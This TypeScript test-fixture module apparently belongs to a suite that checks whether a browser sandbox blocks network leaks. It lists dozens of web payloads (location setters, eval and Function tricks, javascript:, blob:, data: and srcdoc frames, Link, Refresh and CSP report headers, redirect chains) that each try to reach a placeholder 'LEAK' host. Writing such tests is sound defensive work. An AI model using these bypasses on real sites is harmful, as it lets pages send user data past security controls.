/** @module Navigations, frames of all kinds, response headers and redirects. */
import type { LeakAttempt } from '../leak-attempt.js';

const framed = (name: string, script: string): LeakAttempt => ({
  name: `frame: ${name}`,
  kind: 'document',
  script: `const i = document.createElement('iframe'); ${script}`,
});
const header = (name: string, headers: Record<string, string>, more: Partial<LeakAttempt> = {}): LeakAttempt => ({
  name: `header ${name}`,
  kind: 'header',
  headers,
  topLevel: true,
  html: '<p>x',
  ...more,
});

export const navigations: readonly LeakAttempt[] = [
  { name: 'location.href', kind: 'navigation', script: `location.href = 'LEAK/a.html'` },
  { name: 'location =', kind: 'navigation', script: `location = 'LEAK/a.html'` },
  { name: 'location.assign', kind: 'navigation', script: `location.assign('LEAK/a.html')` },
  { name: 'location.replace', kind: 'navigation', script: `location.replace('LEAK/a.html')` },
  { name: 'location.host', kind: 'navigation', script: `location.host = 'HOST:PORT'` },
  { name: 'location.protocol', kind: 'navigation', script: `location.protocol = 'https'; location.hostname = 'HOST'` },
  { name: 'document.location', kind: 'navigation', script: `document.location = 'LEAK/a.html'` },
  { name: 'window[computed]', kind: 'navigation', script: `window['loca' + 'tion'] = 'LEAK/a.html'` },
  { name: 'location by Reflect.set', kind: 'navigation', script: `Reflect.set(window, 'location', 'LEAK/a.html')` },
  {
    name: 'location by Object.assign',
    kind: 'navigation',
    script: `Object.assign(window, { location: 'LEAK/a.html' })`,
  },
  { name: 'location by destructuring', kind: 'navigation', script: `[window.location] = ['LEAK/a.html']` },
  {
    name: 'location by its native setter',
    kind: 'navigation',
    script: `Object.getOwnPropertyDescriptor(window, 'location').set.call(window, 'LEAK/a.html')`,
  },
  {
    name: 'location.href by its own setter',
    kind: 'navigation',
    script: `Object.getOwnPropertyDescriptor(location, 'href').set.call(location, 'LEAK/a.html')`,
  },
  { name: 'location in eval', kind: 'navigation', script: `eval("location = 'LEAK/a.html'")` },
  { name: 'location in Function', kind: 'navigation', script: `Function("location = 'LEAK/a.html'")()` },
  { name: 'location in a string timer', kind: 'navigation', script: `setTimeout("location = 'LEAK/a.html'")` },
  {
    name: 'location of spread window',
    kind: 'navigation',
    script: `const all = { ...window }; all.location.href = 'LEAK/a.html'`,
  },
  {
    name: 'location of a with block',
    kind: 'navigation',
    script: `Function("with (window) { location.href = 'LEAK/a.html' }")()`,
  },
  { name: 'javascript: URL', kind: 'navigation', script: `location.href = "javascript:location.href='LEAK/a.html'"` },
  {
    name: 'javascript: URL with a picture',
    kind: 'image',
    script: `location.href = "javascript:'<img src=LEAK/a.png>'"`,
  },
  {
    name: 'javascript: anchor',
    kind: 'image',
    html: `<a id=a href="javascript:void(new Image().src='LEAK/a.png')">x</a>`,
    script: 'a.click()',
  },
  {
    name: 'javascript: form',
    kind: 'image',
    html: `<form id=f action="javascript:void(new Image().src='LEAK/a.png')"></form>`,
    script: 'f.submit()',
  },
  { name: 'navigation.navigate', kind: 'navigation', script: `navigation.navigate('LEAK/a.html')` },
  {
    name: 'navigation.navigate with replace',
    kind: 'navigation',
    script: `navigation.navigate('LEAK/a.html', { history: 'replace' })`,
  },
  { name: 'window.open', kind: 'navigation', script: `window.open('LEAK/a.html')`, topLevel: true },
  {
    name: 'window.open noopener',
    kind: 'navigation',
    script: `window.open('LEAK/a.html', '_blank', 'noopener')`,
    topLevel: true,
  },
  { name: 'window.open _self', kind: 'navigation', script: `window.open('LEAK/a.html', '_self')` },
  {
    name: 'window.open, then location',
    kind: 'navigation',
    script: `window.open('about:blank').location = 'LEAK/a.html'`,
    topLevel: true,
  },
  {
    name: 'window.open, then document.write',
    kind: 'image',
    script: `const w = window.open(); w.document.write('<img src="LEAK/a.png">'); w.document.close()`,
    topLevel: true,
  },
  {
    name: 'window.open, then fetch',
    kind: 'fetch',
    script: `await window.open().fetch('LEAK/a.json', { mode: 'no-cors' })`,
    topLevel: true,
  },
  {
    name: 'window.open, then a script',
    kind: 'script',
    script: `const w = window.open(); const s = w.document.createElement('script'); s.src = 'LEAK/a.js'; w.document.body.append(s)`,
    topLevel: true,
  },
  {
    name: 'window.open of a blob: document',
    kind: 'image',
    script: `window.open(URL.createObjectURL(new Blob(['<img src="LEAK/a.png">'], { type: 'text/html' })))`,
    topLevel: true,
  },
  {
    name: 'window.open of a javascript: URL',
    kind: 'image',
    script: `window.open("javascript:'<img src=LEAK/a.png>'")`,
    topLevel: true,
  },
  {
    name: 'document.open with three arguments',
    kind: 'navigation',
    script: `document.open('LEAK/a.html', '_blank', '')`,
    topLevel: true,
  },
];

export const frames: readonly LeakAttempt[] = [
  framed('src by property', `i.src = 'LEAK/a.html'; document.body.append(i)`),
  framed('src by setAttribute', `i.setAttribute('src', 'LEAK/a.html'); document.body.append(i)`),
  framed('src set after insertion', `document.body.append(i); i.src = 'LEAK/a.html'`),
  framed('contentWindow.location', `document.body.append(i); i.contentWindow.location = 'LEAK/a.html'`),
  framed('frames[0].location', `document.body.append(i); window.frames[0].location.href = 'LEAK/a.html'`),
  framed(
    'window[0] by Reflect',
    `document.body.append(i); Reflect.get(Reflect.get(window, '0'), 'location').replace('LEAK/a.html')`,
  ),
  framed('named frame by open', `i.name = 'named-frame'; document.body.append(i); open('LEAK/a.html', 'named-frame')`),
  framed('blank: document.write', `document.body.append(i); i.contentDocument.write('<img src="LEAK/a.png">')`),
  framed(
    'blank: document.write of a script',
    `document.body.append(i); i.contentDocument.write('<script src="LEAK/a.js"><\\/script>')`,
  ),
  framed(
    'blank: document.write of an iframe',
    `document.body.append(i); i.contentDocument.write('<iframe src="LEAK/a.html"></iframe>')`,
  ),
  framed('blank: eval', `document.body.append(i); i.contentWindow.eval("fetch('LEAK/a.json')")`),
  framed('blank: Function', `document.body.append(i); new i.contentWindow.Function("new Image().src='LEAK/a.png'")()`),
  framed(
    'blank: stylesheet',
    `document.body.append(i); i.contentDocument.head.innerHTML = '<style>@import "LEAK/a.css"</style>'`,
  ),
  framed('blank: dynamic import', `document.body.append(i); i.contentWindow.eval("import('LEAK/a.js')")`),
  framed('blank: FontFace', `document.body.append(i); new i.contentWindow.FontFace('f', 'url(LEAK/a.woff2)').load()`),
  framed(
    'blank: cross-document adoption',
    `document.body.append(i); const m = new Image(); i.contentDocument.adoptNode(m); m.src = 'LEAK/a.png'`,
  ),
  framed(
    'blank: fetch before load, in a shadow root',
    `const h = document.createElement('div'); h.attachShadow({ mode: 'closed' }).append(i); document.body.append(h); i.contentWindow.fetch('LEAK/a.json')`,
  ),
  framed(
    'blank of a blank',
    `document.body.append(i); const j = i.contentDocument.createElement('iframe'); i.contentDocument.body.append(j); j.contentWindow.fetch('LEAK/a.json')`,
  ),
  framed(
    'made by innerHTML, found by frames',
    `document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); window.frames[0].fetch('LEAK/a.json')`,
  ),
  framed('about:blank#x', `i.src = 'about:blank#x'; document.body.append(i); i.contentWindow.fetch('LEAK/a.json')`),
  framed(
    'after load',
    `document.body.append(i); await new Promise((r) => setTimeout(r)); i.contentWindow.fetch('LEAK/a.json')`,
  ),
  framed(
    'removed',
    `document.body.append(i); const w = i.contentWindow; i.remove(); w.fetch('LEAK/a.json').catch(() => 0); new Image().src = 'LEAK/b.png'`,
  ),
  framed('javascript: src', `i.src = "javascript:'<img src=LEAK/a.png>'"; document.body.append(i)`),
  framed('javascript: src that fetches', `i.src = "javascript:void fetch('LEAK/a.json')"; document.body.append(i)`),
  framed(
    'blob: src',
    `i.src = URL.createObjectURL(new Blob(['<img src="LEAK/a.png">'], { type: 'text/html' })); document.body.append(i)`,
  ),
  framed(
    'blob: src with a script',
    `i.src = URL.createObjectURL(new Blob(['<script>fetch("LEAK/a.json")<\\/script>'], { type: 'text/html' })); document.body.append(i)`,
  ),
  framed(
    'blob: SVG',
    `i.src = URL.createObjectURL(new Blob(['<svg xmlns="http://www.w3.org/2000/svg"><image href="LEAK/a.png" width="9" height="9"/></svg>'], { type: 'image/svg+xml' })); document.body.append(i)`,
  ),
  framed(
    'blob: XHTML',
    `i.src = URL.createObjectURL(new Blob(['<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="LEAK/a.png"/></body></html>'], { type: 'application/xhtml+xml' })); document.body.append(i)`,
  ),
  framed('data: src', `i.src = 'data:text/html,<img src="LEAK/a.png">'; document.body.append(i)`),
  framed(
    'data: src with preconnect',
    `i.src = "data:text/html,<link rel=preconnect href='LEAK/'>"; document.body.append(i)`,
  ),
  framed(
    'data: src with meta refresh',
    `i.src = "data:text/html,<meta http-equiv=refresh content='0;url=LEAK/a.html'>"; document.body.append(i)`,
  ),
  framed('srcdoc', `i.srcdoc = '<img src="LEAK/a.png">'; document.body.append(i)`),
  framed('srcdoc in srcdoc', `i.srcdoc = '<iframe srcdoc="<img src=LEAK/a.png>"></iframe>'; document.body.append(i)`),
  framed('srcdoc with base', `i.srcdoc = '<base href="LEAK/"><img src=a.png>'; document.body.append(i)`),
  framed(
    'srcdoc with a meta refresh',
    `i.srcdoc = '<meta http-equiv=refresh content="0;url=LEAK/a.html">'; document.body.append(i)`,
  ),
  framed(
    'srcdoc, sandboxed',
    `i.sandbox = 'allow-scripts'; i.srcdoc = '<script>fetch("LEAK/a.json", { mode: "no-cors" })<\\/script>'; document.body.append(i)`,
  ),
  framed(
    'srcdoc, sandboxed without scripts',
    `i.sandbox = ''; i.srcdoc = '<img src="LEAK/a.png">'; document.body.append(i)`,
  ),
  framed(
    'blank, sandboxed',
    `i.sandbox = 'allow-same-origin'; document.body.append(i); i.contentDocument.body.innerHTML = '<img src="LEAK/a.png">'`,
  ),
  framed(
    'sandboxed blob:',
    `i.sandbox = 'allow-scripts'; i.src = URL.createObjectURL(new Blob(['<img src="LEAK/a.png">'], { type: 'text/html' })); document.body.append(i)`,
  ),
  framed(
    'credentialless blank',
    `i.credentialless = true; document.body.append(i); i.contentWindow.fetch('LEAK/a.json')`,
  ),
  framed(
    'credentialless srcdoc',
    `i.credentialless = true; i.srcdoc = '<img src="LEAK/a.png">'; document.body.append(i)`,
  ),
  framed('csp attribute', `i.setAttribute('csp', "default-src *"); i.src = 'LEAK/a.html'; document.body.append(i)`),
  framed(
    'document.open of the parent',
    `document.body.append(i); i.contentWindow.eval("parent.document.open(); parent.document.write('<img src=LEAK/a.png>')")`,
  ),
  framed(
    'object about:blank',
    `const o = document.createElement('object'); o.data = 'about:blank'; o.type = 'text/html'; document.body.append(o); o.contentWindow.fetch('LEAK/a.json')`,
  ),
  framed(
    'embed data:',
    `const o = document.createElement('embed'); o.src = 'data:text/html,<img src="LEAK/a.png">'; o.type = 'text/html'; document.body.append(o)`,
  ),
  framed(
    'object data:',
    `const o = document.createElement('object'); o.data = 'data:text/html,<img src="LEAK/a.png">'; document.body.append(o)`,
  ),
  framed('SVG file with a script', `i.src = '/redirect?to=LEAK/a.svg'; document.body.append(i)`),
];

export const headers: readonly LeakAttempt[] = [
  header('Link preload', { link: '<LEAK/a.js>; rel=preload; as=script' }),
  header('Link modulepreload', { link: '<LEAK/a.js>; rel=modulepreload' }),
  header('Link preconnect', { link: '<LEAK/>; rel=preconnect' }),
  header('Link dns-prefetch', { link: '<LEAK/>; rel=dns-prefetch' }),
  header('Link prefetch', { link: '<LEAK/a.html>; rel=prefetch' }),
  header('Link with anchor and quotes', { link: '<LEAK/a,b.js>; rel="preload x"; as="script"; title="a, b"' }),
  header('Refresh', { refresh: '0;url=LEAK/a.html' }),
  header(
    'CSP report-uri',
    { 'content-security-policy': `img-src 'none'; report-uri LEAK/r` },
    { html: '<img src="/x.png">' },
  ),
  header(
    'CSP report-only report-uri',
    { 'content-security-policy-report-only': `img-src 'none'; report-uri LEAK/r` },
    { html: '<img src="/x.png">' },
  ),
  header('Speculation-Rules', { 'speculation-rules': '"LEAK/rules.json"' }),
  header('WWW-Authenticate', { 'www-authenticate': 'Basic realm="LEAK"' }, { html: '<img src="LEAK/401.png">' }),
];

export const redirects: readonly LeakAttempt[] = [
  { name: 'redirect of an image', kind: 'image', html: '<img src="/redirect?to=LEAK/a.png">' },
  { name: 'redirect of a frame', kind: 'document', html: '<iframe src="/redirect?to=LEAK/a.html"></iframe>' },
  { name: 'redirect of a script', kind: 'script', html: '<script src="/redirect?to=LEAK/a.js"></script>' },
  { name: 'redirect of a stylesheet', kind: 'style', html: '<link rel=stylesheet href="/redirect?to=LEAK/a.css">' },
  { name: 'redirect of media', kind: 'media', html: '<video preload=auto src="/redirect?to=LEAK/a.mp4"></video>' },
  { name: 'redirect of an object', kind: 'object', html: '<object data="/redirect?to=LEAK/a.svg"></object>' },
  { name: 'redirect of fetch', kind: 'fetch', script: `await fetch('/redirect?to=LEAK/a.json')` },
  {
    name: 'redirect of XMLHttpRequest, synchronous',
    kind: 'fetch',
    script: `const x = new XMLHttpRequest(); x.open('GET', '/redirect?to=LEAK/a.json', false); x.send()`,
  },
  { name: 'redirect of EventSource', kind: 'fetch', script: `new EventSource('/redirect?to=LEAK/a.events')` },
  { name: 'redirect of sendBeacon', kind: 'ping', script: `navigator.sendBeacon('/redirect?to=LEAK/a')` },
  {
    name: 'redirect of fetch keepalive',
    kind: 'fetch',
    script: `fetch('/redirect?to=LEAK/a.json', { keepalive: true })`,
  },
  { name: 'redirect of a module', kind: 'script', html: '<script type=module src="/redirect?to=LEAK/a.js"></script>' },
  {
    name: 'redirect of importScripts',
    kind: 'worker',
    script: `new Worker(URL.createObjectURL(new Blob(["importScripts('" + new URL('/redirect?to=LEAK/a.js', document.baseURI) + "')"])))`,
  },
  {
    name: 'redirect of a form, 307',
    kind: 'navigation',
    html: '<form id=f method=post action="/redirect?status=307&to=LEAK/a.html"></form>',
    script: 'f.submit()',
  },
  { name: 'redirect to https', kind: 'image', html: '<img src="/redirect?to=https://HOST/a.png">' },
  { name: 'redirect chain', kind: 'image', html: '<img src="/redirect?to=/redirect?to=LEAK/a.png">' },
  {
    name: 'redirect by meta refresh in a frame',
    kind: 'document',
    html: `<iframe srcdoc="<meta http-equiv=refresh content='0;url=/redirect?to=LEAK/a.html'>"></iframe>`,
  },
  {
    name: 'redirect of a prefetch',
    kind: 'prefetch',
    html: '<link rel=prefetch href="/redirect?to=LEAK/a.html">',
    topLevel: true,
  },
  {
    name: 'redirect of a download',
    kind: 'download',
    html: '<a id=a download href="/redirect?to=LEAK/a.zip">x</a>',
    script: 'a.click()',
    topLevel: true,
  },
  {
    name: 'redirect of a ping',
    kind: 'ping',
    html: '<a id=a href="#x" ping="/redirect?to=LEAK/a">x</a>',
    script: 'a.click()',
  },
];
